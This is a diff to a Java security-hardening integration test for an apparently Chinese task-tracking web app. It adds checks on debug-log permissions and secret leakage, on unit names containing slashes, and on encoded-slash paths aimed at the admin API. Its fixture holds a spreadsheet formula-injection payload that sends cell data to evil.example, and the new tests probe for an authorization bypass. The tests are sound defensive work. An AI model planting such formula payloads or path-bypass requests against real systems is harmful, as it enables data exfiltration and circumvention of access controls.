@@ -46,7 +46,7 @@ class HardeningIT {
 
             1.=HYPERLINK("http://evil.example/?d="&E2,"点此查看详情")。（责任领导：张"三<b>；牵头单位：市甲\\乙局、市百分之100%局；责任单位：市<丙>局。）
 
-            2.+1+2 与 -3 和 @SUM(A1) 任务。（责任领导：李四；牵头单位：市甲\\乙局。）
+            2.+1+2 与 -3 和 @SUM(A1) 任务。（责任领导：李四；牵头单位：市甲\\乙局、市丁/戊局。）
             """;
 
     @LocalServerPort
@@ -65,6 +65,30 @@ class HardeningIT {
             assertThatThrownBy(wrong::verifyConnectivity).isInstanceOf(AuthenticationException.class);
         }
         assertThat(bolt.getUri().getHost()).isEqualTo("127.0.0.1");
+    }
+
+    /** A system property as {@code java -Drespnet.security.admin-password=…} would set one; set before the server starts. */
+    private static final String SECRET = "hardening-secret-" + System.nanoTime();
+
+    static {
+        System.setProperty("respnet.hardening.probe", SECRET);
+    }
+
+    /**
+     * Issue 25, finding 7: data/logs/debug.log was world-readable and began with the JVM's command line and
+     * system properties, an admin password or bcrypt hashes given as arguments among them.
+     */
+    @Test
+    void neo4jDebugLogIsOwnerOnlyAndHoldsNoCommandLineOrSystemProperties(
+            @Autowired EmbeddedNeo4jProperties properties) throws Exception {
+        Path logs = properties.dataDir().toAbsolutePath().resolve("logs");
+        Path debugLog = logs.resolve("debug.log");
+        assertThat(debugLog).exists();
+
+        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(logs))).isEqualTo("rwx------");
+        String log = Files.readString(debugLog);
+        assertThat(log).contains("[system/") // the log is written …
+                .doesNotContain(SECRET, "sun.java.command", "[classpath]"); // … without secrets
     }
 
     @Test
@@ -130,13 +154,17 @@ class HardeningIT {
                     .as(format).contains("市<丙>局").contains("张\"三<b>");
         }
 
-        for (String name : new String[] {"市甲\\乙局", "市百分之100%局"}) {
+        // Issue 25, finding 7: a name holding "/" answered Tomcat's 400 page.
+        for (String name : new String[] {"市甲\\乙局", "市百分之100%局", "市丁/戊局"}) {
             HttpJson.Reply page = new HttpJson(port).get("/units/" + HttpJson.enc(name));
             assertThat(page.status()).as(name).isEqualTo(200);
             HttpJson.Reply api = new HttpJson(port).get("/api/units/" + HttpJson.enc(name));
             assertThat(api.status()).as(name + " " + api.raw()).isEqualTo(200);
             assertThat(api.raw()).contains(name.replace("\\", "\\\\"));
         }
+        // An encoded slash stays inside its segment for the security rules too: no way around /api/admin/**.
+        assertThat(new HttpJson(port).get("/api%2Fadmin/audit").status()).isIn(403, 404);
+        assertThat(new HttpJson(port).get("/api/admin%2Faudit").status()).isIn(401, 403, 404);
     }
 
     private static String attributes(org.w3c.dom.Element element) {
